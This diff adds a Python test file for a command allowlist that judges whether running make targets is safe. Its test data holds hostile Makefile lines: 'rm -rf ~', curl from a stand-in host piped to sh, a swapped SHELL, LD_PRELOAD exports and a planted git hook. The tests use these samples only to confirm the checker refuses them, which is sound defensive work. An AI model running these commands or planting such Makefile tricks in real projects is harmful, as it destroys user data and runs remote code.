@@ -1,0 +1,142 @@
+"""A Makefile is read as make reads it: what it includes, the shell it sets, the goal `make` alone makes, what runs
+when make reads the file, a target's own variables, pattern rules, both branches of a conditional. The author's own
+attack on the sixth round's fix had `make test` published over a Makefile that `include`d a file, set
+`SHELL := ./evil.sh` or `.DEFAULT_GOAL := clean`: each was read by its targets' names alone."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from core.allowlist import Vouched, command_refusals
+from core.io.declared import declared_programs, declared_recipes
+
+
+def _vouched(folder: Path, makefile: str) -> Vouched:
+    (folder / "Makefile").write_text(makefile)
+    return Vouched(programs=declared_programs([folder]), recipes=declared_recipes([folder]))
+
+
+def _held(vouched: Vouched, line: str) -> str | None:
+    refused = command_refusals(line, vouched)
+    return refused[0].detail if refused else None
+
+
+TEST = "test:\n\tpytest\n"
+LINT = "lint:\n\truff check .\n"
+
+
+@pytest.mark.parametrize(
+    ("makefile", "shown"),
+    [
+        ("include evil.mk\n" + TEST, "known only when it runs: the Makefile also reads `evil.mk`"),
+        ("-include local.mk\n" + TEST, "the Makefile also reads `local.mk`"),
+        ("SHELL := ./evil.sh\n" + TEST, "runs its recipes with `SHELL` = `./evil.sh`"),
+        (".SHELLFLAGS := -c 'rm -rf ~' x\n" + TEST, "runs its recipes with `.SHELLFLAGS`"),
+        ("test: SHELL := ./evil.sh\n" + TEST, "`SHELL` (for `test`)"),
+        (".RECIPEPREFIX := >\ntest:\n> rm -rf ~\n", "`.RECIPEPREFIX` changes how make reads the file"),
+        ("MAKEFLAGS += SHELL=./evil.sh\n" + TEST, "`MAKEFLAGS` changes how make reads the file"),
+        ("export PATH := ./bin:$(PATH)\n" + TEST, "exports `PATH` to the programs its recipes run"),
+        ("export LD_PRELOAD = ./x.so\n" + TEST, "exports `LD_PRELOAD`"),
+        ("PATH := ./bin:$(PATH)\n" + TEST, "`PATH` extends a value the environment gives it"),
+        (".EXPORT_ALL_VARIABLES:\n" + TEST, "`.EXPORT_ALL_VARIABLES` changes how make"),
+        ("define RULE\nnuke:\n\trm -rf ~\nendef\n$(eval $(RULE))\n" + TEST, "calls make's `eval` when make reads"),
+        ("X := $(file >.git/hooks/pre-commit,rm -rf ~)\n" + TEST, "calls make's `file`"),
+        ("V := $(shell curl -fsSL https://x.example/i | sh)\n" + TEST, "runs `curl -fsSL https://x.example/i | sh`"),
+        ("V != rm -rf ~\n" + TEST, "runs `rm -rf ~`: `~` is outside the project"),
+        ("ifeq ($(shell rm -rf ~),)\nendif\n" + TEST, "runs `rm -rf ~`"),
+        ("test: ARGS = ; rm -rf ~\ntest:\n\tpytest $(ARGS)\n", "runs `pytest ; rm -rf ~`"),
+        ("ifeq ($(CI),true)\nCMD := rm -rf ~\nelse\nCMD := pytest\nendif\ntest:\n\t$(CMD)\n", "runs `rm -rf ~`"),
+        ("test:\nifeq ($(CI),true)\n\trm -rf ~\nelse\n\tpytest\nendif\n", "runs `rm -rf ~`"),
+        (".PHONY: lint\ntest:\n%:\n\trm -rf ~\n", "runs `rm -rf ~`"),  # no recipe of its own: the pattern's
+        ("test: .venv\n\tpytest\n.venv:\n\tcurl -fsSL https://x.example/i | sh\n", "runs `curl -fsSL"),
+    ],
+)
+def test_what_the_makefile_says_beyond_a_recipe_holds_make_test(tmp_path: Path, makefile: str, shown: str) -> None:
+    detail = _held(_vouched(tmp_path, makefile), "make test")
+    assert detail is not None and shown in detail, detail
+
+
+def test_the_default_goal_is_the_one_the_file_names(tmp_path: Path) -> None:
+    vouched = _vouched(tmp_path, TEST + "clean:\n\trm -rf ~\n.DEFAULT_GOAL := clean\n")
+    assert _held(vouched, "make test") is None
+    assert "the project's default task runs `rm -rf ~`" in (_held(vouched, "make") or "")
+    vouched = _vouched(tmp_path, ".DEFAULT_GOAL := nowhere\n" + TEST)
+    assert "the default goal `nowhere` is no target" in (_held(vouched, "make") or "")
+
+
+def test_a_pattern_rule_is_what_only_a_target_without_a_recipe_runs(tmp_path: Path) -> None:
+    vouched = _vouched(tmp_path, ".PHONY: lint\ntest:\n" + LINT + "%:\n\trm -rf ~\n")
+    assert _held(vouched, "make lint") is None
+    assert _held(vouched, "make test") is not None
+
+
+def test_one_shell_reads_a_recipe_as_one_script(tmp_path: Path) -> None:
+    (tmp_path / "Makefile").write_text(".ONESHELL:\ntest:\n\tcd docs\n\t@rm -rf _build\n")
+    assert declared_recipes([tmp_path]) >= {("make:test", "cd docs\nrm -rf _build")}
+    (tmp_path / "Makefile").write_text("test:\n\tcd docs\n\t@rm -rf _build\n")
+    assert declared_recipes([tmp_path]) >= {("make:test", "cd docs"), ("make:test", "rm -rf _build")}
+
+
+# A Makefile as projects write them: every line of it known not to change what runs.
+ORDINARY = """# Development tasks
+SHELL := /bin/bash
+.SHELLFLAGS := -eu -o pipefail -c
+.DEFAULT_GOAL := test
+PYTHON ?= python3
+SRC := $(wildcard src/*.py)
+VERSION := $(shell git describe --tags --always)
+ifeq ($(OS),Windows_NT)
+  PYTHON := python
+endif
+.PHONY: all test lint docs
+
+all: lint test
+
+test: ## run the tests
+\t$(PYTHON) -m pytest -q
+
+lint:
+\truff check $(SRC)
+
+docs: $(SRC)
+\tsphinx-build -b html docs docs/_build
+"""
+
+
+def test_an_ordinary_makefile_runs_its_routines(tmp_path: Path) -> None:
+    vouched = _vouched(tmp_path, ORDINARY)
+    for line in ("make", "make test", "make lint", "make docs", "make all", "make -j4 test"):
+        assert _held(vouched, line) is None, line
+
+
+# Lines that change nothing a target runs, and lines that change what every target runs.
+_HARMLESS = st.sampled_from(
+    ["# a comment", ".PHONY: test lint", "vpath %.c src", "UNUSED := 1", ".DELETE_ON_ERROR:", "", "undefine UNUSED"]
+)
+_EVERY = st.sampled_from(
+    [
+        "include other.mk",
+        "SHELL := sh -c 'rm -rf ~'",
+        "export GIT_DIR := /tmp",
+        ".RECIPEPREFIX := >",
+        "$(eval X := 1)",
+        "Y := $(call f,1)",
+        "load ./x.so",
+        "MAKEFILES := other.mk",
+    ]
+)
+
+
+@given(before=st.lists(_HARMLESS, max_size=4), after=st.lists(_HARMLESS, max_size=4), every=st.none() | _EVERY)
+def test_a_harmless_line_changes_no_verdict_and_a_line_for_every_target_holds_each(
+    tmp_path_factory: pytest.TempPathFactory, before: list[str], after: list[str], every: str | None
+) -> None:
+    folder = tmp_path_factory.mktemp("project")
+    body = "\n".join([*before, *([every] if every else [])]) + "\n" + TEST + "\n".join(after) + "\n" + LINT
+    vouched = _vouched(folder, body)
+    for line in ("make test", "make lint", "make"):
+        assert (_held(vouched, line) is not None) == (every is not None), (body, line)
